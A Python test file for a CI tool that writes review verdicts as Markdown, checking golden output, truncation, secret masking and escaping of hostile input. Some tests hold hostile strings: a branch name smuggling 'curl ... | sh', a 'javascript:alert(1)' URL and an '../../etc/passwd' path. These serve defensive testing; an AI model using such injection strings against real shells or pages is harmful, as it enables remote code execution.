"""What a review is told: the whole text of one verdict, its bounds, and names from outside."""

from __future__ import annotations

import re
import shlex
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline_steps.config.config_file import load
from pipeline_steps.reporting import review_text
from pipeline_steps.reporting.report_page import Page
from pipeline_steps.reporting.review_text import About
from pipeline_steps.reporting.verdict import ChartVerdict
from pipeline_steps.reviews.review import Finding
from pipeline_steps.testing.requirements import Requirement
from pipeline_steps.toolbox.redact import MASK, register
from pipeline_steps.workspace.checkout import Checkout
from tests.support.gits import Repo
from tests.support.helms import chart_files
from tests.support.review_pages import HEAD, HOSTILE, chart, hostile_about, hostile_page, page

MERGE, BASE = "2" * 40, "3" * 40
PASSED = Requirement("check", "check", "passed", 1)
FAILED = Requirement(
    "integration_test install-default on k131",
    "integration_test",
    "failed",
    2,
    "crash loop: container web\nlast line",
)
GOLDEN = """\
**failed: something required has failed**

Tested: `2222222222222222222222222222222222222222`, in which CI merged \
`1111111111111111111111111111111111111111` of this review with \
`3333333333333333333333333333333333333333` of `main`. The verdict is about that merge.
Build: <https://ci.example.com/job/7/>

1 chart: 1 negative; 2 requirements: 1 failed, 1 passed

### `web 1.2.0`: **negative**

- `integration_test install-default on k131` **failed** after 2 attempts: `crash loop: container web / last line`
- `check` **passed**
- `content`: `sha256:cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc`
- `image backend`: `registry.example.com/x/backend:k-1@sha256:eeeeeeeeeeeeeeee`
- `snapshot`: `oci://registry.example.com/charts/web:1.2.0-0.0.tabc@sha256:dddddddddddddddd`

What it renders otherwise than what is published:

```diff
-a: 1
+a: 2
```

Look at it on your machine:

```sh
git fetch origin refs/changes/01/1/1 && git switch --detach 1111111111111111111111111111111111111111
pipeline-steps sandbox up
pipeline-steps run check build_image snapshot integration_test --chart web
pipeline-steps reproduce integration_test/web --last-failed --cluster sandbox --state oci://registry.example.com/ci/evidence
```"""


def test_the_text_of_a_failed_verdict_on_a_merge() -> None:
    failed = page(PASSED, FAILED, diffs={"web": "-a: 1\n+a: 2\n"})
    checkout = f"git fetch origin refs/changes/01/1/1 && git switch --detach {HEAD}"
    commands = review_text.commands(failed, checkout, "oci://registry.example.com/ci/evidence")
    tested = About(HEAD, MERGE, BASE, "main", commands=commands)
    assert review_text.text(failed, tested, 60_000) == GOLDEN
    assert review_text.summary(failed) == (
        "failed: something required has failed: 1 chart: 1 negative; 2 requirements: 1 failed, "
        "1 passed"
    )


def test_the_words_of_other_verdicts() -> None:
    plain = About(HEAD, HEAD)
    nothing = Page([], HEAD, "", started=False)
    assert nothing.word == "positive"
    assert review_text.summary(nothing) == "passed: no chart affected"
    gap = nothing._replace(gaps=("the review also changes api, which this report is not about",))
    assert gap.word == "incomplete"
    assert "Not positive: `the review also changes api" in review_text.text(gap, plain, 4000)
    started = page(PASSED, started=True)
    text = review_text.text(started, plain, 4000)
    assert text.startswith("**started: tests have begun**\n\nCharts: `web`.\n")
    assert f"Tested: `{HEAD}`, the revision of this review." in text
    assert "passed" not in text
    queued = review_text.text(page(PASSED), About(HEAD, HEAD, target="main", queued=True), 4000)
    assert f"Tested: `{HEAD}`, made by the merge queue of `main`." in queued


def test_a_failure_stays_one_whatever_else_is_missing() -> None:
    assert page(FAILED, gaps=("the review also changes api",)).word == "negative"


@pytest.mark.parametrize("longest", [4000, 16_000, 60_000])
def test_a_long_text_is_cut_and_says_what_is_left_out(longest: int) -> None:
    failures = [FAILED._replace(name=f"test {n}", reason="x y " * 900) for n in range(60)]
    names = [f"chart-{n}" for n in range(40)]
    verdicts = [page(PASSED, *failures, name=name).verdicts[0] for name in names]
    diffs = dict.fromkeys(names, "+ line ```\n" * 5000)
    long = page()._replace(
        verdicts=verdicts, diffs=diffs, gaps=["g" * 9000] * 9, build=f"https://{'b' * 9000}"
    )
    commands = review_text.commands(long, "git fetch origin refs/changes/01/1/1", None)
    tested = About("r" * 400, "t" * 400, "b" * 400, "m" * 4000, commands=commands)
    text = review_text.text(long, tested, longest)
    assert len(text) <= longest
    assert re.search(r"\*\*\d+ parts are left out here\*\*, as this system takes no longer", text)
    assert text.startswith("**failed") and text.endswith("--chart chart-4\n```")
    assert len(review_text.summary(long)) <= 140
    assert not unfenced(text)


def test_a_command_that_people_paste_runs_nothing_of_a_branchs_name() -> None:
    """Quoted for a shell, it must stay as it is: the name ends no quote and no fence."""
    name = "refs/heads/x`;curl${IFS}h|sh;```'"
    checkout = shlex.join(["git", "fetch", "origin", name])
    commands = review_text.commands(page(FAILED), checkout, None)
    text = review_text.text(page(FAILED), About(HEAD, HEAD, commands=commands), 60_000)
    [line] = [line for line in text.splitlines() if line.startswith("git fetch")]
    assert shlex.split(line) == ["git", "fetch", "origin", name]
    assert text.endswith("\n`````") and not unfenced(text)


def unfenced(text: str) -> list[str]:
    """The words of a text that stand outside of code, where Markdown, mentions and addresses are
    understood, but for those that we write.
    """
    fences = re.sub(r"^(`{3,})[a-z]*\n.*?\n\1$", "", text, flags=re.DOTALL | re.MULTILINE)
    spans = re.sub(r"(?<!`)(`+)(?!`)(.*?)(?<!`)\1(?!`)", "", fences)
    ours = re.sub(r"Build: <https://ci\.example\.com/\S*>|</?(details|summary)>", "", spans)
    return [word for word in re.findall(r"\S*[<>@#\[\]`|\\]\S*|https?:\S*", ours) if word != "###"]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("folded", [True, False])
def test_nothing_from_outside_is_understood(text: str, folded: bool) -> None:
    one = hostile_page(text)
    tested = hostile_about(text)._replace(folded=folded)
    shown = review_text.text(one, tested, 60_000)
    assert not unfenced(shown), shown
    assert not re.search(r"[\x00-\x08\x0b-\x1f\u202e]", shown)
    assert not re.search(r"(?:^|\s)@[a-z]", shown), "nobody is mentioned by the bare text either"
    assert not unfenced(review_text.summary(one))


@given(st.text(max_size=80))
def test_a_code_span_is_one_span(text: str) -> None:
    assert not unfenced(review_text.code(text, 60))


def test_a_build_url_that_is_none_is_not_shown() -> None:
    for url in ("javascript:alert(1)", "https://x.example.com/> [a](b", "https://a b"):
        text = review_text.text(page(PASSED, build=url), About(HEAD, HEAD), 4000)
        assert "Build:" not in text and url not in text


def test_a_secret_is_in_no_text() -> None:
    secret = register("hunter2-of-a-review")
    one = page(FAILED._replace(reason=f"token {secret}"), notices=[secret], diffs={"web": secret})
    text = review_text.text(one, About(HEAD, HEAD, commands=("true",)), 60_000)
    assert secret not in text and MASK in text


def test_findings_are_places_in_files_of_the_checkout(tmp_path: Path) -> None:
    repo = Repo(tmp_path / "checkout", tmp_path / "gitconfig")
    for name, content in chart_files().items():
        repo.put(f"deploy/charts/web/{name}", content)
    repo.put("deploy/pipeline.yaml", '{"charts": [{"path": "charts/*"}]}')
    repo.commit()
    checkout = Checkout(load((), environ={}, start=repo.root / "deploy"))
    reason = (
        "charts/web: 3 of 5 checks failed:\n"
        "lint values.yaml: charts/web/Chart.yaml:2:10\n  executing it:\n    nil pointer @all\n"
        "render: charts/web/values.yaml:99999: a line of something rendered\n"
        "render: ../../etc/passwd:1: not of the checkout\n"
        "image: charts/web/values.yaml:1: sets a key\n"
        'render: parse error at (charts/web/values.yaml:2): function "quoted" not defined\n'
        "lint: charts/web/values.yaml: cannot be parsed: yaml: line 3: tabs\n"
        "lint: charts/web/templates/deployment.yaml: cannot be parsed: yaml: line 3: of what is rendered"
    )
    failed = Requirement("check", "check", "failed", 1, reason)
    notice = "charts/web/Chart.yaml:3: version 1.2.0 is released; raise it"
    verdict = ChartVerdict(chart(), "", {}, (failed,), notice)
    assert review_text.findings(checkout, [verdict._replace(requirements=(), notice="")]) == ()
    assert review_text.findings(checkout, [verdict]) == (
        Finding("deploy/charts/web/Chart.yaml", 2, "`executing it: / nil pointer @\u200ball`"),
        Finding("deploy/charts/web/values.yaml", 1, "`sets a key`"),
        Finding("deploy/charts/web/values.yaml", 2, '`function "quoted" not defined`'),
        Finding("deploy/charts/web/values.yaml", 3, "`tabs`"),
        Finding("deploy/charts/web/Chart.yaml", 3, "`version 1.2.0 is released; raise it`"),
    )
